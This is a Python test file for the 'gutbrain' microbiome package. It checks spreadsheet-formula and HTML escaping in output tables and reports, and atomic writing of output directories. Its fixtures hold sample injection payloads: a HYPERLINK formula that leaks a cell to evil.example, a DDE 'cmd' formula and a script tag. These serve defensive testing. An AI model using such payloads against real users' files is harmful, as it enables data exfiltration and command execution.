"""Outputs safe to open and to trust: spreadsheet formulas escaped, HTML escaped, directories atomic."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

import gutbrain as gb
from gutbrain._utils import (
    MANIFEST_NAME,
    STALE_NAME,
    atomic_directory,
    escape_formula,
    spreadsheet_safe,
    verify_directory,
    write_delimited,
)
from gutbrain.cli import app

EVIL_SAMPLE = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
EVIL_TAXON = "@SUM(1+1)*cmd|' /C calc'!A0"
HTML_TAXON = "<script>alert('x')</script>"
runner = CliRunner()


# --------------------------------------------------------------------------- the rule
@pytest.mark.parametrize("cell", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-x"])
def test_formula_starts_are_escaped(cell):
    assert escape_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1.5", "+3e-4", "-0", "-.5", "-inf", "NaN", "Bacteroides", "", "a=b"])
def test_numbers_and_plain_text_are_kept(cell):
    assert escape_formula(cell) == cell


@given(st.floats(allow_nan=True, allow_infinity=True) | st.integers())
def test_numbers_stay_numbers(x):
    assert escape_formula(x) is x
    assert escape_formula(str(x)) == str(x)  # a number written as text is read as a number


@given(st.text())
def test_no_escaped_cell_starts_a_formula(text):
    out = escape_formula(text)
    if out.startswith(("=", "+", "-", "@", "\t", "\r")):
        # left alone only when it is a number written with ASCII digits ("+0", "-1.5e3", "-inf")
        assert out == text and text.isascii()
        float(text)
    if out != text:
        assert out == "'" + text


@pytest.mark.parametrize("cell", ["+0", "-1e5", "+inf"])
def test_signed_numbers_are_numbers(cell):
    assert escape_formula(cell) == cell


@pytest.mark.parametrize("cell", ["+\u0663", "-\uff11", "+1+1", "-1 ", "+0x10", "+1_000"])
def test_signed_text_that_is_not_an_ascii_number_is_escaped(cell):
    assert escape_formula(cell) == "'" + cell


def test_frame_columns_categories_and_index():
    df = pd.DataFrame({
        "sample": [EVIL_SAMPLE, "S2", None],
        "group": pd.Categorical(["-case", "control", "control"]),
        "coef": [-1.25, 0.5, np.nan],
        "n": [-3, 4, 5],
        "=evil header": ["a", "b", "c"],
    }, index=pd.Index(["+x", "y", "z"], name="@id"))
    safe = spreadsheet_safe(df, index=True)
    assert safe["sample"].tolist()[:2] == ["'" + EVIL_SAMPLE, "S2"] and pd.isna(safe["sample"].iloc[2])
    assert list(safe["group"].cat.categories) == ["'-case", "control"]
    # numbers untouched
    np.testing.assert_array_equal(safe["coef"].to_numpy(), df["coef"].to_numpy())
    assert safe["n"].tolist() == [-3, 4, 5] and safe["n"].dtype == df["n"].dtype
    assert "'=evil header" in safe.columns and list(safe.index) == ["'+x", "y", "z"]
    assert safe.index.name == "'@id"
    assert df["sample"].iloc[0] == EVIL_SAMPLE  # the input is not modified


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh, delimiter="\t") for c in row]


def _assert_no_formula(path):
    bad = [c for c in _cells(path) if c.startswith(("=", "+", "@", "\t", "\r"))
           or (c.startswith("-") and not _is_number(c))]
    assert not bad, f"{path.name}: {bad[:3]}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_write_delimited_keeps_negative_numbers_numeric(tmp_path):
    df = pd.DataFrame({"id": [EVIL_SAMPLE, "-1"], "coef": [-0.125, 3.0]})
    p = write_delimited(df, tmp_path / "t.tsv")
    back = pd.read_csv(p, sep="\t")
    assert back["coef"].tolist() == [-0.125, 3.0] and back["coef"].dtype == float
    assert back["id"].tolist() == ["'" + EVIL_SAMPLE, "-1"]  # a number as text is not escaped
    _assert_no_formula(p)


# --------------------------------------------------------------------------- every writer
@pytest.fixture(scope="module")
def evil_cohort():
    a = gb.datasets.demo_cohort(seed=0, n_samples=40, n_genera=30)
    names = list(a.obs_names)
    names[0], names[1] = EVIL_SAMPLE, "-cmd"
    a.obs_names = names
    var = list(a.var_names)
    var[0] = EVIL_TAXON
    a.var_names = var
    a.var["feature_id"] = var
    a.var.loc[EVIL_TAXON, "genus"] = EVIL_TAXON
    a.var.iloc[1, a.var.columns.get_loc("genus")] = HTML_TAXON
    return a


def test_write_tsv_escapes_ids_and_names(evil_cohort, tmp_path):
    p = gb.io.write_tsv(evil_cohort, tmp_path / "t.tsv")
    _assert_no_formula(p)
    cells = _cells(p)
    assert "'" + EVIL_SAMPLE in cells and "'" + EVIL_TAXON in cells and "'-cmd" in cells
    back = pd.read_csv(p, sep="\t", index_col=0)
    assert (back.select_dtypes("number").to_numpy() >= 0).all()


def test_workflow_outputs_escaped_html_and_tables(evil_cohort, tmp_path):
    out = tmp_path / "run"
    gb.workflow.run(evil_cohort, group="group", out=out, progress=False,
                    generated_at="2026-01-01T00:00:00Z")
    assert verify_directory(out) == []
    tables = sorted((out / "tables").glob("*.tsv"))
    assert tables
    for t in tables:
        _assert_no_formula(t)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert HTML_TAXON not in html and "<script>alert" not in html
    assert EVIL_SAMPLE not in html.replace("&#34;", '"').replace("&quot;", '"') or "&lt;" in html


def test_cli_tables_escaped(evil_cohort, tmp_path):
    table = gb.io.write_tsv(evil_cohort, tmp_path / "in.tsv")
    alpha = tmp_path / "alpha.tsv"
    r = runner.invoke(app, ["diversity", "alpha", str(table), "--out", str(alpha)])
    assert r.exit_code == 0, r.output
    _assert_no_formula(alpha)
    beta = tmp_path / "beta.tsv"
    r = runner.invoke(app, ["diversity", "beta", str(table), "--out", str(beta)])
    assert r.exit_code == 0, r.output
    _assert_no_formula(beta)


# --------------------------------------------------------------------------- atomic directories
def test_atomic_directory_complete_or_previous(tmp_path):
    out = tmp_path / "out"
    with atomic_directory(out) as d:
        (d / "a.txt").write_text("one")
        assert not out.exists()  # nothing visible until complete
    assert verify_directory(out) == [] and (out / "a.txt").read_text() == "one"
    first_manifest = json.loads((out / MANIFEST_NAME).read_text())
    assert set(first_manifest["files"]) == {"a.txt"}
    with pytest.raises(RuntimeError, match="boom"):
        with atomic_directory(out) as d:
            (d / "a.txt").write_text("two")
            raise RuntimeError("boom")
    assert (out / "a.txt").read_text() == "one"  # the previous output is intact …
    assert "boom" in (out / STALE_NAME).read_text()  # … and marked as not current
    assert any("later run" in p for p in verify_directory(out))
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]  # no temp left
    with atomic_directory(out) as d:
        (d / "b.txt").write_text("three")
    assert sorted(p.name for p in out.iterdir()) == ["b.txt", MANIFEST_NAME]  # replaced whole
    (out / "b.txt").write_text("tampered")
    assert verify_directory(out) == ["b.txt changed since it was written"]


def test_atomic_directory_never_replaces_foreign_directories(tmp_path):
    mine = tmp_path / "thesis"
    mine.mkdir()
    (mine / "chapter1.docx").write_text("precious")
    with pytest.raises(gb.InputFormatError, match="not written by gutbrain"):
        with atomic_directory(mine):
            pass
    assert (mine / "chapter1.docx").read_text() == "precious"
    empty = tmp_path / "empty"
    empty.mkdir()
    with atomic_directory(empty) as d:
        (d / "x").write_text("1")
    assert verify_directory(empty) == []


def test_killed_run_leaves_nothing_after_the_next_start(tmp_path):
    """A process killed mid-write (SIGKILL) leaves temp files; the next start removes them."""
    script = f"""
import os, signal, sys
sys.path.insert(0, {os.fspath(gb.__path__[0] + '/..')!r})
from gutbrain._utils import atomic_directory, atomic_path
with atomic_directory({os.fspath(tmp_path / 'out')!r}) as d:
    (d / "half.txt").write_text("half")
    with atomic_path({os.fspath(tmp_path / 'single.tsv')!r}) as t:
        t.write_text("half")
        os.kill(os.getpid(), signal.SIGKILL)
"""
    proc = subprocess.run([sys.executable, "-c", script], check=False)
    assert proc.returncode == -9
    leftovers = [p.name for p in tmp_path.iterdir()]
    assert not (tmp_path / "out").exists() and not (tmp_path / "single.tsv").exists()
    assert any(n.endswith(".gutbrain-tmp") for n in leftovers) and any(n.endswith(".tmp") for n in leftovers)
    with atomic_directory(tmp_path / "out") as d:
        (d / "ok.txt").write_text("ok")
    from gutbrain._utils import atomic_write

    with atomic_write(tmp_path / "single.tsv") as fh:
        fh.write("ok")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "single.tsv"]


def test_killed_between_the_two_renames_restores_the_previous_output(tmp_path):
    out = tmp_path / "out"
    with atomic_directory(out) as d:
        (d / "a.txt").write_text("old")
    dead = 2**22 + 12345  # beyond pid_max: no such process
    os.rename(out, tmp_path / f".out.{dead}-xyz.gutbrain-old")
    with atomic_directory(out) as d:  # the next start puts the old output back, then replaces it
        assert (out / "a.txt").read_text() == "old"
        (d / "a.txt").write_text("new")
    assert (out / "a.txt").read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_failed_rerun_of_gutbrain_run_keeps_and_marks_the_previous_report(tmp_path):
    a = gb.datasets.demo_cohort(seed=0, n_samples=30, n_genera=20)
    out = tmp_path / "o"
    gb.workflow.run(a, group="group", out=out, progress=False)
    before = (out / "report.html").read_bytes()
    with pytest.raises(gb.GutbrainError):
        gb.workflow.run(a, group="no_such_column", out=out, progress=False)
    assert (out / "report.html").read_bytes() == before
    assert (out / STALE_NAME).exists()
    r = runner.invoke(app, ["run", str(tmp_path / "missing.tsv"), "--out", str(out), "--no-progress"])
    assert r.exit_code == 2
    assert (out / "report.html").read_bytes() == before
